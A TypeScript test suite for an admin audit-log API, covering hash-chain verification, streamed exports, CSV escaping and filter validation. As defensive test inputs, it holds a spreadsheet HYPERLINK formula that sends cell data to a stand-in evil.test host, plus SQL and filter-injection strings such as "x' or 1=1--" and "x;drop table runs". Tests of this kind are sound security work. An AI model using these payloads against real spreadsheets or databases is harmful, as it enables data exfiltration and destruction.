import assert from "@std/assert";
import * as z from "zod";
import { csv } from "../../../supabase/functions/admin/audit/write.ts";
import {
  AUDIT_COLUMNS,
  AuditEntry,
  ChainReport,
} from "../../../supabase/functions/admin/audit/schema.ts";
import admin from "../../../supabase/functions/admin/index.ts";
import { ADDRESS_HEADER, newAddress } from "../../stack.ts";
import { as, expect, newcomer, operator, promise } from "./rig.ts";

const MANY = 1_200;
const FIRST = "0".repeat(64);

/** The hash of an entry, made from an export alone, as the chapter on the audit log describes it. */
async function hashOf(entry: AuditEntry): Promise<string> {
  const { prev_hash, seq, at, actor_id, key_id, db_role, action, resource_type } = entry;
  const { resource_id, outcome, details, request_id, address, user_agent, via } = entry;
  const text = JSON.stringify([
    ...[prev_hash, String(seq), at, actor_id, key_id, db_role, action, resource_type],
    ...[resource_id, outcome, jsonb(details), request_id, address, user_agent, via],
    entry.policy_hash,
  ]);
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return Array.from(new Uint8Array(digest), (byte) => byte.toString(16).padStart(2, "0")).join("");
}

/** A value as Postgres writes it: keys by length, then by bytes. */
function jsonb(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(jsonb).join(", ")}]`;
  if (typeof value !== "object" || value === null) return JSON.stringify(value);
  const entries = Object.entries(value).sort(([a], [b]) => a.length - b.length || (a < b ? -1 : 1));
  return `{${entries.map(([key, it]) => `${JSON.stringify(key)}: ${jsonb(it)}`).join(", ")}}`;
}

const Ndjson = z.string().transform((text) =>
  AuditEntry.array().parse(text.trimEnd().split("\n").map((line) => JSON.parse(line)))
);

promise(
  "an export proves by itself that nothing in it was changed, left out or put elsewhere",
  async () => {
    await using sql = operator();
    const chief = await newcomer(sql, "admin");
    const exported = await expect(chief.ask("GET", "/admin/audit/export"), 200);
    assert.equal(exported.headers.get("content-type"), "application/x-ndjson; charset=utf-8");
    assert.match(exported.headers.get("content-disposition") ?? "", /^attachment; .*\.ndjson"$/);
    const entries = Ndjson.parse(exported.text);
    let before = { seq: 0, hash: FIRST };
    for (const entry of entries) {
      assert.deepEqual([entry.seq, entry.prev_hash], [before.seq + 1, before.hash]);
      assert.equal(await hashOf(entry), entry.hash, JSON.stringify(entry));
      before = entry;
    }
    const last = entries.findLast(({ actor_id }) => actor_id === chief.id);
    assert.deepEqual([last?.action, last?.via], ["audit.exported", "api"]);
    const query = `expected_seq=${before.seq}&expected_hash=${before.hash}`;
    const report = await expect(chief.ask("GET", `/admin/audit/verification?${query}`), 200);
    const { ok, problem, compared } = report.body;
    assert.deepEqual([ok, problem, compared], [true, null, true]);
  },
);

promise("the chain says when it is not the one that somebody remembers", async () => {
  await using sql = operator();
  const chief = await newcomer(sql, "admin");
  const verify = async (query: string) => {
    const { body } = await expect(chief.ask("GET", `/admin/audit/verification?${query}`), 200);
    return [body.ok, body.problem];
  };
  assert.deepEqual(await verify(`expected_seq=1&expected_hash=${"a".repeat(64)}`), [
    false,
    "edited",
  ]);
  const beyond = `expected_seq=900000000&expected_hash=${"a".repeat(64)}`;
  assert.deepEqual(await verify(beyond), [false, "truncated"]);
  for (const query of ["expected_seq=1", "expected_seq=0", "expected_hash=x", "since_seq=-1"]) {
    const answer = chief.ask("GET", `/admin/audit/verification?${query}`);
    await expect(answer, 400, "invalid_request");
  }
});

promise("a long log is verified stretch by stretch, up to the head", async () => {
  await using sql = operator();
  const chief = await newcomer(sql, "admin");
  const verify = async (query: string) =>
    ChainReport.parse(
      (await expect(chief.ask("GET", `/admin/audit/verification?${query}`), 200)).body,
    );
  const kept = await verify("");
  assert.deepEqual([kept.ok, kept.checked, kept.until_seq], [true, kept.head_seq, kept.head_seq]);
  await sql`select app.audit('test.written', 'test', 'x') from generate_series(1, 250)`;
  const memory = `expected_seq=${kept.head_seq}&expected_hash=${kept.head_hash}`;
  let [since, head, checked] = [kept.head_seq + 1, Infinity, 0];
  while (since <= head) {
    const report = await verify(`since_seq=${since}&until_seq=${since + 99}&${memory}`);
    assert.deepEqual([report.ok, report.since_seq], [true, since], JSON.stringify(report));
    assert.ok(report.checked <= 100);
    checked += report.checked;
    [since, head] = [report.until_seq + 1, report.head_seq];
  }
  assert.equal(checked, head - kept.head_seq);
  assert.ok(checked >= 250);
  const lie = `expected_seq=${kept.head_seq}&expected_hash=${"a".repeat(64)}`;
  const report = await verify(`since_seq=1&until_seq=1&${lie}`);
  assert.deepEqual([report.problem, report.at_seq], ["edited", kept.head_seq]);
  for (const query of ["since_seq=2&until_seq=1", "until_seq=0", "until_seq=x", "until_seq="]) {
    const answer = chief.ask("GET", `/admin/audit/verification?${query}`);
    await expect(answer, 400, "invalid_request");
  }
});

/** Entries by the hundred, and the export of them as it comes. */
async function longExport(sql: ReturnType<typeof operator>, who: { id: string; token: string }) {
  await sql`
    select app.audit('test.written', 'test', ${who.id}, jsonb_build_object('n', n))
    from generate_series(1, ${MANY}) as n`;
  const path = `/admin/audit/export?resource_id=${who.id}&action=test.written`;
  const headers = { authorization: `Bearer ${who.token}`, [ADDRESS_HEADER]: newAddress() };
  const { body } = await admin.request(path, { headers });
  assert.ok(body);
  return body.pipeThrough(new TextDecoderStream());
}

promise(
  "an export breaks off, and does not just end, when its reader may read no more",
  async () => {
    await using sql = operator();
    const chief = await newcomer(sql, "admin");
    const reader = (await longExport(sql, chief)).getReader();
    assert.ok((await reader.read()).value?.includes("test.written"));
    await sql`update app.user_roles set role = 'user' where user_id = ${chief.id}`;
    await assert.rejects(async () => {
      while (!(await reader.read()).done);
    });
  },
);

promise("an export is written page by page while it is read", async () => {
  await using sql = operator();
  const chief = await newcomer(sql, "admin");
  const parts: string[] = [];
  for await (const part of await longExport(sql, chief)) parts.push(part);
  assert.equal(parts.length, 3);
  const entries = Ndjson.parse(parts.join(""));
  assert.equal(new Set(entries.map(({ seq }) => seq)).size, MANY);
});

promise("an export that nothing fits is empty, and ends", async () => {
  await using sql = operator();
  const chief = await newcomer(sql, "admin");
  const path = `/admin/audit/export?resource_id=${chief.id}&action=test.none`;
  assert.equal((await expect(chief.ask("GET", path), 200)).text, "");
  const head = `${AUDIT_COLUMNS.join(",")}\r\n`;
  assert.equal((await expect(chief.ask("GET", `${path}&format=csv`), 200)).text, head);
});

promise("a CSV export runs nothing in a spreadsheet", async () => {
  await using sql = operator();
  const chief = await newcomer(sql, "admin");
  const formula = '=HYPERLINK("https://evil.test?x="&A1,"click")';
  const draft = { name: "=1+1", scopes: ["agents:read"] };
  await expect(chief.ask("POST", "/admin/keys", draft, { "user-agent": formula }), 201);
  const query = `format=csv&actor=${chief.id}&action=key.created`;
  const { text, headers } = await expect(chief.ask("GET", `/admin/audit/export?${query}`), 200);
  assert.equal(headers.get("content-type"), "text/csv; charset=utf-8; header=present");
  const [head, line, end] = text.split("\r\n");
  assert.deepEqual([head, end], [AUDIT_COLUMNS.join(","), ""]);
  assert.ok(line?.includes(`,"'${formula.replaceAll('"', '""')}",`), line);
  assert.doesNotMatch(text, /(?:^|,)"?[=+\-@\t]/m);
});

Deno.test("csv puts an apostrophe before whatever a spreadsheet might run", () => {
  const [entry] = AuditEntry.array().parse([{
    seq: 1,
    at: "2026-01-02T03:04:05.678Z",
    actor_id: null,
    key_id: null,
    db_role: "r",
    action: "a.b",
    resource_type: "t",
    resource_id: null,
    outcome: "succeeded",
    details: {},
    request_id: null,
    address: null,
    user_agent: null,
    via: "sql",
    policy_hash: null,
    prev_hash: FIRST,
    hash: FIRST,
  }]);
  assert.ok(entry);
  const written = (user_agent: string) => csv.line({ ...entry, user_agent }).split(",")[12];
  for (const text of ["=1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "\uff1d1", "\n@x"]) {
    assert.equal(written(text), `"'${text}"`);
  }
  assert.equal(written('say "hi"'), '"say ""hi"""');
  assert.equal(written("a=b"), '"a=b"');
});

promise(
  "GET /admin/audit finds entries by actor, key, action, resource, outcome and time",
  async () => {
    await using sql = operator();
    const chief = await newcomer(sql, "admin");
    const began = new Date().toISOString();
    const draft = { name: "k", scopes: ["agents:read", "audit:read"] };
    const { body: { id, secret } } = await expect(chief.ask("POST", "/admin/keys", draft), 201);
    await expect(chief.ask("DELETE", `/admin/keys/${id}`), 200);
    const actions = async (query: string) => {
      const { body } = await expect(
        chief.ask("GET", `/admin/audit?actor=${chief.id}&${query}`),
        200,
      );
      return body.data.map(({ action }: { action: string }) => action);
    };
    assert.deepEqual(await actions(`since=${began}`), ["key.revoked", "key.created"]);
    assert.deepEqual(await actions("action=key.revoked"), ["key.revoked"]);
    assert.deepEqual(await actions("resource_type=key&action=key.created"), ["key.created"]);
    assert.deepEqual(await actions(`until=${began}&resource_type=key`), []);
    assert.deepEqual(await actions("outcome=denied"), []);
    const mine = await chief.ask("GET", `/admin/audit?actor=${chief.id}&action=key.created`);
    const [{ via, address, request_id }] = mine.body.data;
    assert.deepEqual([via, address], ["api", chief.address.replace(/::1$/, "::/64")]);
    assert.ok(request_id);
    const exported = as({ token: secret, address: newAddress() });
    await expect(exported("GET", "/admin/audit"), 401, "key_revoked");
  },
);

promise("no filter of the audit log is more than a filter", async () => {
  await using sql = operator();
  const chief = await newcomer(sql, "admin");
  const refused = [
    "action=x' or 1=1--",
    "action=key.created,seq.gt.0",
    "actor=me",
    "actor=eq.1",
    "key=key_1",
    "resource_type=x;drop table runs",
    "outcome=any",
    "since=yesterday",
    "since=0000-01-01T00:00:00Z",
    "until=infinity",
    "limit=101",
    "limit=0",
    "cursor=x",
    "order=seq.asc",
    "select=*",
    "or=(seq.gt.0)",
    "resource_id=",
    `resource_id=${"x".repeat(201)}`,
    "resource_id=%00",
  ];
  for (const query of refused) {
    const answer = await chief.ask("GET", `/admin/audit?${query.replaceAll(" ", "%20")}`);
    assert.equal(answer.status, 400, `${query}: ${answer.text}`);
  }
  for (const id of ["*", "a,b)or(seq.gt.0", '"', "like.*", "%25", "is.null", "\\", "(1,2)"]) {
    const path = `/admin/audit?resource_id=${encodeURIComponent(id)}`;
    assert.deepEqual((await expect(chief.ask("GET", path), 200)).body.data, [], id);
  }
});

promise("a cursor of the audit log is good for its user, and for the audit log", async () => {
  await using sql = operator();
  const [ann, bob] = [await newcomer(sql, "admin"), await newcomer(sql, "admin")];
  const first = (await expect(ann.ask("GET", "/admin/audit?limit=1"), 200)).body;
  const cursor = encodeURIComponent(first.next_cursor);
  const next = (await expect(ann.ask("GET", `/admin/audit?limit=1&cursor=${cursor}`), 200)).body;
  assert.ok(next.data[0].seq < first.data[0].seq);
  await expect(bob.ask("GET", `/admin/audit?cursor=${cursor}`), 400, "invalid_cursor");
  await expect(ann.ask("GET", `/admin/keys?cursor=${cursor}`), 400, "invalid_cursor");
  await expect(ann.ask("GET", `/admin/audit?cursor=${cursor}x`), 400, "invalid_cursor");
});

promise("no user agent that somebody makes up makes the audit log unreadable", async () => {
  await using sql = operator();
  const [chief, somebody] = [await newcomer(sql, "admin"), await newcomer(sql, "user")];
  const headers = JSON.stringify({ "user-agent": "\u{1F4A9}".repeat(600) });
  const claims = JSON.stringify({ sub: somebody.id, role: "authenticated" });
  await sql.begin(async (sql) => {
    await sql`select set_config('role', 'authenticated', true),
      set_config('request.jwt.claims', ${claims}, true),
      set_config('request.headers', ${headers}, true)`;
    await sql`select public.create_agent('loud', '', 'x', 'javascript')`;
  });
  const listed = await expect(chief.ask("GET", `/admin/audit?actor=${somebody.id}`), 200);
  assert.ok(listed.body.data.length > 0);
  const path = `/admin/audit/export?format=ndjson&actor=${somebody.id}`;
  const exported = await expect(chief.ask("GET", path), 200);
  assert.match(exported.text, /\u{1F4A9}{512}"/u);
});
